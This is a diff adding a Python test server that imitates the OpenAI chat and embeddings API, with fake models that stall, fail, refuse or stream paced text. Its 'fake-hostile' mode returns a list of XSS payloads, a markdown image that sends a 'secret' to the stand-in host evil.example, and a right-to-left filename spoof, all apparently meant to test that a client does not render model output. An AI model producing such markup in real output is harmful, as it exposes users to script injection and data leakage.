@@ -1,0 +1,291 @@
+"""A local server that speaks the OpenAI protocol, for tests and for trying the model path by hand.
+
+`python -m tests.openai_server --port 9900`, then OPENAI_BASE_URL=http://127.0.0.1:9900/v1. What it
+does is chosen by the model's name, see MODES.
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import base64
+import hashlib
+import json
+import random
+import re
+import struct
+import threading
+import time
+from collections.abc import AsyncIterator
+from typing import Any
+
+from aiohttp import web
+
+HOSTILE = [
+    "<script>alert(1)</script> ",
+    '<img src=x onerror="alert(1)"> ',
+    "[click](javascript:alert(1)) ",
+    "![leak](https://evil.example/?q=secret) ",
+    "[elsewhere](https://evil.example/) ",
+    "\u202egnp.exe ",
+    "**ok**",
+]
+
+MODES = {
+    "fake": "quotes the first source of the prompt, or says that it does not know",
+    "fake-slow": "the same, with a pause before each piece",
+    "fake-gate": "stops after two pieces until the test calls `open_gate`",
+    "fake-broken": "cuts the connection in the middle",
+    "fake-error": "sends an error object in the middle",
+    "fake-429": "is busy, with Retry-After",
+    "fake-500": "is out of order",
+    "fake-401": "refuses the key",
+    "fake-404": "does not know itself",
+    "fake-hang": "accepts and never answers",
+    "fake-silent": "begins and never goes on",
+    "fake-empty": "answers with nothing",
+    "fake-hostile": "answers with markup that must never run",
+    "fake-old": "refuses stream_options, as older servers do",
+    "fake-new": "refuses max_tokens, as newer models do",
+    "fake-<ttft ms>-<tokens a second>-<tokens>": "a paced stream of numbered words",
+}
+_PACED = re.compile(r"^fake-(\d+)-(\d+)-(\d+)$")
+
+
+class OpenAIServer:
+    """The server in a thread of its own; use it as a context manager."""
+
+    def __init__(self, port: int = 0) -> None:
+        self.port = port
+        self.requests: list[dict[str, Any]] = []
+        self.disconnects = 0
+        self.sent_pieces = 0
+        self._gate: asyncio.Event | None = None
+        self._loop = asyncio.new_event_loop()
+        self._ready = threading.Event()
+        self._thread = threading.Thread(target=self._run, name="openai", daemon=True)
+
+    @property
+    def base_url(self) -> str:
+        """What OPENAI_BASE_URL is set to."""
+        return f"http://127.0.0.1:{self.port}/v1"
+
+    def __enter__(self) -> OpenAIServer:
+        self._thread.start()
+        self._ready.wait(10)
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._loop.call_soon_threadsafe(self._loop.stop)
+        self._thread.join(10)
+
+    def open_gate(self) -> None:
+        """Let a `fake-gate` answer go on."""
+        assert self._gate is not None
+        self._loop.call_soon_threadsafe(self._gate.set)
+
+    def _run(self) -> None:
+        asyncio.set_event_loop(self._loop)
+        self._loop.run_until_complete(self._start())
+        self._ready.set()
+        self._loop.run_forever()
+        self._loop.run_until_complete(self._runner.cleanup())
+        pending = asyncio.all_tasks(self._loop)
+        for task in pending:
+            task.cancel()
+        self._loop.run_until_complete(asyncio.gather(*pending, return_exceptions=True))
+        self._loop.close()
+
+    async def _start(self) -> None:
+        self._gate = asyncio.Event()
+        application = web.Application()
+        application.router.add_post("/v1/chat/completions", self._complete)
+        application.router.add_post("/v1/embeddings", self._embed)
+        application.router.add_get("/v1/models", self._models)
+        self._runner = web.AppRunner(application, handler_cancellation=True, shutdown_timeout=0.1)
+        await self._runner.setup()
+        site = web.TCPSite(self._runner, "127.0.0.1", self.port)
+        await site.start()
+        self.port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
+
+    async def _models(self, request: web.Request) -> web.Response:
+        data = [{"id": name, "object": "model", "owned_by": "test"} for name in MODES]
+        return web.json_response({"object": "list", "data": data})
+
+    async def _complete(self, request: web.Request) -> web.StreamResponse:
+        body = await request.json()
+        self.requests.append(body)
+        mode = body["model"]
+        refusal = _refusal(mode, body)
+        if refusal:
+            return refusal
+        if mode == "fake-hang":
+            await self._until_gone()
+        if not body.get("stream"):
+            return web.json_response(_whole(body, "".join(_words(body))))
+        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
+        await response.prepare(request)
+        try:
+            return await self._stream(response, body)
+        except (ConnectionResetError, asyncio.CancelledError):
+            self.disconnects += 1
+            raise
+
+    async def _until_gone(self) -> None:
+        try:
+            await asyncio.Event().wait()
+        finally:
+            self.disconnects += 1
+
+    async def _stream(self, response: web.StreamResponse, body: dict[str, Any]) -> web.StreamResponse:
+        mode, count = body["model"], 0
+
+        async def send(delta: dict[str, Any], reason: str | None = None, **more: Any) -> None:
+            choice = {"index": 0, "delta": delta, "finish_reason": reason}
+            await response.write(_event(body, choices=[choice], **more))
+
+        await response.write(b": keep-alive\r\n\r\n" if mode == "fake-hostile" else b"")
+        await send({"role": "assistant", "content": ""}, unknown_field={"a": [1]})
+        async for piece in self._pieces(body):
+            await send({"content": piece})
+            count += 1
+            self.sent_pieces += 1
+            if mode == "fake-broken" and count == 3:
+                response._req.transport.close()  # type: ignore[union-attr]
+                return response
+            if mode == "fake-error" and count == 3:
+                await response.write(b'data: {"error": {"message": "overloaded"}}\n\n')
+                return response
+            if mode == "fake-silent" and count == 1:
+                await asyncio.Event().wait()
+            if mode == "fake-gate" and count == 2:
+                assert self._gate is not None
+                await self._gate.wait()
+                self._gate.clear()
+        await send({}, "stop")
+        if (body.get("stream_options") or {}).get("include_usage"):
+            await response.write(_event(body, choices=[], usage=_usage(body, count)))
+        await response.write(b"data: [DONE]\n\n")
+        await response.write_eof()
+        return response
+
+    async def _pieces(self, body: dict[str, Any]) -> AsyncIterator[str]:
+        paced = _PACED.match(body["model"])
+        if paced:
+            first, rate, count = map(int, paced.groups())
+            started = time.monotonic() + first / 1000
+            for number in range(count):
+                await asyncio.sleep(max(0.0, started + number / rate - time.monotonic()))
+                yield f"{number}@{time.time():.6f} "
+            return
+        for word in _words(body):
+            if body["model"] == "fake-slow":
+                await asyncio.sleep(0.05)
+            yield word
+
+    async def _embed(self, request: web.Request) -> web.Response:
+        body = await request.json()
+        self.requests.append(body)
+        refusal = _refusal(body["model"], body)
+        if refusal:
+            return refusal
+        texts = [body["input"]] if isinstance(body["input"], str) else body["input"]
+        size = body.get("dimensions") or {"embed-768": 768, "embed-3072": 3072}.get(body["model"], 1024)
+        data = []
+        # In any order: the index counts.
+        for index, text in reversed(list(enumerate(texts))):
+            vector: Any = vector_of(text, size)
+            if body.get("encoding_format") == "base64":
+                vector = base64.b64encode(struct.pack(f"<{size}f", *vector)).decode()
+            data.append({"object": "embedding", "index": index, "embedding": vector})
+        usage = {"prompt_tokens": sum(map(len, texts)), "total_tokens": sum(map(len, texts))}
+        return web.json_response(
+            {"object": "list", "data": data, "model": body["model"], "usage": usage}
+        )
+
+
+def vector_of(text: str, size: int) -> list[float]:
+    """Numbers that depend on the text alone."""
+    source = random.Random(hashlib.sha256(text.encode()).digest())  # noqa: S311  (no secret)
+    return [source.uniform(-1, 1) for _ in range(size)]
+
+
+def _words(body: dict[str, Any]) -> list[str]:
+    if body["model"] == "fake-empty":
+        return []
+    if body["model"] == "fake-hostile":
+        return HOSTILE
+    system = "\n".join(m["content"] for m in body["messages"] if m["role"] == "system")
+    source = re.search(r'<source number="1">\n.*\n([\s\S]*?)\n</source>', system)
+    facts = re.search(r"<facts>\n([\s\S]*?)\n</facts>", system)
+    russian = bool(re.search("[а-яё]", body["messages"][-1]["content"], re.IGNORECASE))
+    text = source[1] if source else facts[1] if facts else ""
+    if not text:
+        text = "Этого я не знаю." if russian else "I do not know that."
+    return re.findall(r"\S+\s*", text)
+
+
+def _refusal(mode: str, body: dict[str, Any]) -> web.Response | None:
+    def refuse(status: int, message: str, **headers: str) -> web.Response:
+        content = {"error": {"message": message, "type": "test", "code": None}}
+        return web.json_response(content, status=status, headers=headers)
+
+    if mode == "fake-429":
+        return refuse(429, "busy", **{"Retry-After": "2"})
+    if mode == "fake-500":
+        return refuse(500, "out of order")
+    if mode == "fake-401":
+        return refuse(401, "wrong key")
+    if mode == "fake-404":
+        return refuse(404, "no such model")
+    if mode == "fake-old" and "stream_options" in body:
+        return refuse(400, "Unrecognized request argument supplied: stream_options")
+    if mode == "fake-new" and "max_tokens" in body:
+        return refuse(400, "Unsupported parameter: 'max_tokens'. Use 'max_completion_tokens'.")
+    return None
+
+
+def _usage(body: dict[str, Any], completion: int) -> dict[str, int]:
+    prompt = sum(len(m["content"].split()) for m in body["messages"])
+    return {
+        "prompt_tokens": prompt,
+        "completion_tokens": completion,
+        "total_tokens": prompt + completion,
+    }
+
+
+def _event(body: dict[str, Any], **fields: Any) -> bytes:
+    chunk = {
+        "id": "chatcmpl-test",
+        "object": "chat.completion.chunk",
+        "created": 0,
+        "model": body["model"],
+        **fields,
+    }
+    return f"data: {json.dumps(chunk, ensure_ascii=False)}\n\n".encode()
+
+
+def _whole(body: dict[str, Any], text: str) -> dict[str, Any]:
+    return {
+        "id": "chatcmpl-test",
+        "object": "chat.completion",
+        "created": 0,
+        "model": body["model"],
+        "choices": [
+            {"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
+        ],
+        "usage": _usage(body, len(text.split())),
+    }
+
+
+def main() -> None:
+    """The command line."""
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--port", type=int, default=9900)
+    server = OpenAIServer(parser.parse_args().port)
+    with server:
+        server._thread.join()
+
+
+if __name__ == "__main__":
+    main()
